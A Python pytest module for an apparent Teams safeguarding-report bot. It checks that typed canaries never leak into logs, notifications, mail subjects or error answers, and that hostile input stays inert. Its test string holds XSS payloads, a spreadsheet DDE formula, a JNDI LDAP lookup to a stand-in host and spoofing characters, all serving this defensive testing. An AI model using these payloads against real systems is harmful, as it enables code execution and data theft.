"""What somebody typed stands on cards and in the inbox's mail, and nowhere else; hostile text does nothing there.

Every field of the form carries a canary, faults are injected so that the paths of errors run, and then everything
that others can read is searched: the log, what a lock screen shows, subjects, addresses, answers to errors.
"""

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from tests.faults.story import INBOX
from tests.harness import Message, Rehearsal
from tests.security.kept import rows

CANARY = "zanzibar"
NAME, BORN, CASE = f"{CANARY}-K-104", "2013-02-03", f"{CANARY}-case-77"
HOSTILE = (
    f"{CANARY} **bold** [link](https://evil.example/a) <at>Dana Director</at> <script>alert(1)</script> "
    "<img src=x onerror=alert(1)> javascript:alert(1) {{DATE(2026-01-01)}} =cmd|'/c calc'!A1 "
    "\u202ereversed\u202c zero\u200bwidth NUL\x00 bell\x07 half\ud83d pair &lt;b&gt; ${jndi:ldap://evil.example}\r\n"
    "# a heading of my own\r\n- NTK-2026-9999 acknowledged by Dana Director"
)


@dataclass(frozen=True)
class Told:
    tenant: Rehearsal
    answers: list[Any]
    """Every answer that the bot gave at its door while something was wrong."""


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Told]:
    folder = tmp_path_factory.mktemp("canaries")
    with Rehearsal(folder, allowed_errors=["not saved"]) as tenant:
        rowan, answers = tenant.person("rowan"), []
        rowan.says(f"my reports about {NAME}")
        rowan.says("report")
        rowan.presses(rowan.card(action="start"), "start", {"incident.details": HOSTILE}, raw=True)
        first = {"subject.kind": "child", "happened": "missing", "child.status": "cla"}
        rowan.presses(rowan.card(action="next"), "next", first)
        while True:
            card = rowan.sees("personal")[-1]
            if "next" not in card.actions:
                break
            rowan.presses(card, "next", typed(card), raw=True)
        tenant.fault("connector", status=500, times=2)
        tenant.fault("connector", status=502, times=1)
        tenant.fault("connector", status=403, times=1, match="conversations")
        tenant.fault("connector", cut="after", times=1)
        tenant.fault("graph", cut="after", times=1)
        tenant.fault("graph", status=500, times=2)
        tenant.fault("signin", status=500, times=1)
        answers.append(rowan.presses(rowan.card(action="send"), "send", {}).answer)
        for _ in range(8):
            tenant.advance("1m")
        tenant.clear_faults()
        tenant.advance("20m")
        dana = tenant.person("dana")
        dana.presses(dana.card(action="acknowledge", place="managers"), "acknowledge", {})
        answers += broken(tenant)
        dana.says(f"find {NAME} {HOSTILE}")
        dana.says("find")
        dana.presses(dana.card(action="find"), "find", {"find.words": f"{NAME} {CANARY}"})
        tenant.advance("4d")  # reminders, escalations, digests
        yield Told(tenant, answers)


def typed(card: Message) -> dict[str, str]:
    """Everything on a step, typed into."""
    known = {"about.staff": "no", "danger.now": "yes", "emergency.called": "yes", "abuse.suspected": "unknown"}
    known["basic.case_status"] = "Child looked after (CLA)"
    values: dict[str, str] = {}
    for field in card.data["fields"]:
        name, kind = field["id"], field.get("kind") or field.get("type") or ""
        if name in known:
            values[name] = known[name]
        elif "choice" in str(kind).lower():
            values[name] = "unknown" if name.partition(".")[0] not in ("basic", "agencies", "incident") else "yes"
        elif name == "basic.date_of_birth":
            values[name] = BORN
        elif name == "basic.case_id":
            values[name] = CASE
        elif name == "basic.child_name":
            values[name] = NAME
        elif "date" in str(kind).lower() or "time" in str(kind).lower():
            continue
        elif name.endswith(("telephone", "email")):
            values[name] = f"{CANARY}@x.example" if name.endswith("email") else "01632 960 555"
        else:
            values[name] = f"{HOSTILE} {name}"[:450]
    return values


def broken(tenant: Rehearsal) -> list[Any]:
    """Answers while the store fails, and to presses that no card sends, each carrying canaries."""
    import sqlite3

    path = tenant.folder / "bot" / "need-to-know.sqlite3"
    answers = []
    forged = {"verb": "next", "id": NAME, "version": 1, "incident.details": HOSTILE, "basic.child_name": NAME}
    change = {"type": "invoke", "name": "adaptiveCard/action", "value": {"action": {"data": forged}}, "id": "broken-1"}
    answers.append(tenant.send(change={**change, "id": "forged-1"}, **{"as": "rowan"}).answer)
    worse = {**change, "value": {"action": {"data": {**forged, "version": NAME, NAME: [NAME]}}}, "id": "forged-2"}
    answers.append(tenant.send(change=worse, **{"as": "rowan"}).answer)
    answers.append(tenant.send(raw=json.dumps({"type": NAME, "text": HOSTILE})).answer)
    answers.append(tenant.send(token="a.b.c", change=change, **{"as": "rowan"}).answer)
    for statement in ("ALTER TABLE received RENAME TO gone", "ALTER TABLE gone RENAME TO received"):
        with sqlite3.connect(path, timeout=30) as connection:
            connection.execute(statement)
        connection.close()
        outcome = tenant.send(change=change, **{"as": "rowan"})
        answers.append(outcome.answer)
    assert "Not saved" in json.dumps(answers[-2])
    return answers


def holds(text: str) -> list[str]:
    """The canaries in a text."""
    return [c for c in (CANARY, BORN, "3 Feb 2013", "K-104", "evil.example") if c.lower() in text.lower()]


def test_the_story_was_told_and_its_canaries_are_where_they_belong(told: Told) -> None:
    card = told.tenant.person("dana").card(text="NTK-2026-0001", place="personal")
    assert NAME in card.words
    (mail,) = told.tenant.mail_to(INBOX)
    assert NAME in mail["body"]
    assert CASE in mail["body"]


def test_the_bots_log_holds_no_canary_and_no_token(told: Told) -> None:
    log = told.tenant.bot_log()
    assert "delivery failed" in log
    assert "not saved" in log
    assert holds(log) == []
    assert "Bearer" not in log
    assert "eyJ" not in log
    assert "Rowan Reporter" not in log


def test_the_rehearsals_own_log_holds_no_canary(told: Told) -> None:
    assert holds((told.tenant.folder / "rehearsal.log").read_text()) == []


def test_what_a_lock_screen_shows_says_nothing(told: Told) -> None:
    """`summary` and `text` are shown outside the card."""
    for who in ("rowan", "dana", "charlie", "alex", "ola", "morgan", "avery", "deputy"):
        for message in told.tenant.person(who).sees():
            if message.sender == "bot":
                assert holds(message.summary + message.text) == []
                assert not re.search("missing|looked after|Rowan", message.summary + message.text)
                assert message.summary


def test_mail_subjects_hold_the_reference_and_the_limit_alone(told: Told) -> None:
    mails = [m for p in told.tenant.people() for m in told.tenant.mail_to(p["mail"])] + told.tenant.mail_to(INBOX)
    assert mails
    for mail in mails:
        assert holds(mail["subject"]) == []
        assert re.fullmatch(
            r"(LATE: )?Need to Know NTK-2026-0001"
            r"(, (must be told|acknowledge|decide)[a-z ]* (immediately|by \w{3} \d+ \w{3} \d\d:\d\d)"
            r"( \(local [a-z, ]+\))?"
            r"|, acknowledge by \w{3} \d+ \w{3} \d\d:\d\d"
            r"|: please (open Teams|phone somebody))?",
            mail["subject"],
        )


def test_no_address_on_the_wire_holds_a_canary(told: Told) -> None:
    for exchange in told.tenant.wire():
        if exchange["direction"] == "from-bot":
            assert holds(exchange["url"]) == [], exchange["url"]
            assert holds(json.dumps(dict(exchange["headers"]))) == []


def test_the_channel_learns_nothing_that_was_typed(told: Told) -> None:
    for message in told.tenant.person("dana").sees("managers"):
        if message.sender == "bot":
            assert holds(json.dumps(message.card)) == []


def test_answers_to_errors_repeat_nothing(told: Told) -> None:
    for answer in told.answers[1:]:
        assert holds(json.dumps(answer)) == []


def test_the_journals_lines_hold_no_content(told: Told) -> None:
    lines = rows(told.tenant.folder, "SELECT subject, actor, verb, commitment FROM journal")
    assert holds(json.dumps(lines)) == []
    kept = rows(told.tenant.folder, "SELECT answer FROM received")
    assert holds(json.dumps(kept)) == []


def test_when_the_store_fails_the_answer_says_not_saved_and_whom_to_phone(told: Told) -> None:
    said = json.dumps(told.answers[-2], ensure_ascii=False)
    assert "Not saved. Nobody has been told." in said
    assert "01632 960 999" in said
    assert "Not saved" not in json.dumps(told.answers[-1])


# Hostile text is inert.


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


def test_hostile_text_is_inert_in_the_mail(told: Told) -> None:
    (mail,) = told.tenant.mail_to(INBOX)
    found = _Tags()
    found.feed(mail["body"])
    words = {"div", "h1", "h2", "h3", "p", "strong", "em", "ul", "li", "dl", "dt", "dd", "br"}
    assert found.tags <= {"html", "head", "meta", "title", "body"} | words
    assert found.attributes <= {"lang", "style", "charset", "name", "content"}
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\x00-\x08\x0b\x0c\x0e-\x1f]", mail["body"])
    assert "&lt;script&gt;" in mail["body"]
    assert not re.search(r"[\r\n]", mail["subject"])


def texts(node: object) -> Iterator[tuple[str, str]]:
    """Every text of a card with the type of its element; what stands in inputs is not shown as text."""
    if isinstance(node, dict):
        kind = str(node.get("type", ""))
        for name in ("text", "title", "value", "label", "altText"):
            if isinstance(node.get(name), str) and not kind.startswith("Input."):
                yield kind, node[name]
        for name, value in node.items():
            if name not in ("data",):
                yield from texts(value)
    elif isinstance(node, list):
        for value in node:
            yield from texts(value)


@pytest.mark.parametrize("who", ["rowan", "dana", "charlie"])
def test_hostile_text_is_inert_on_every_card(told: Told, who: str) -> None:
    for message in told.tenant.person(who).sees():
        if message.card is None:
            continue
        assert "entities" not in message.card.get("msteams", {})
        for kind, text in texts(message.card):
            assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\x00-\x08\x0b-\x1f\ud800-\udfff]", text)
            assert "{{" not in text
            assert "<at>" not in text
            assert "<script" not in text
            if kind != "TextRun":
                assert "](http" not in text
                assert "**bold**" not in text
        assert "OpenUrl" not in json.dumps(message.card)


def test_a_forged_line_does_not_stand_on_a_line_of_its_own(told: Told) -> None:
    """What was typed cannot pass for what the bot says about acknowledgements."""
    card = told.tenant.person("dana").card(text="NTK-2026-0001", place="personal")
    for kind, text in texts(card.card):
        if "NTK-2026-9999" in text:
            assert "\n" not in text, kind


def test_no_token_file_was_written_anywhere(told: Told) -> None:
    """O365's default would write its token into the working directory."""
    assert not list(Path.cwd().glob("o365_token*"))
    assert not list(told.tenant.folder.rglob("*token*"))
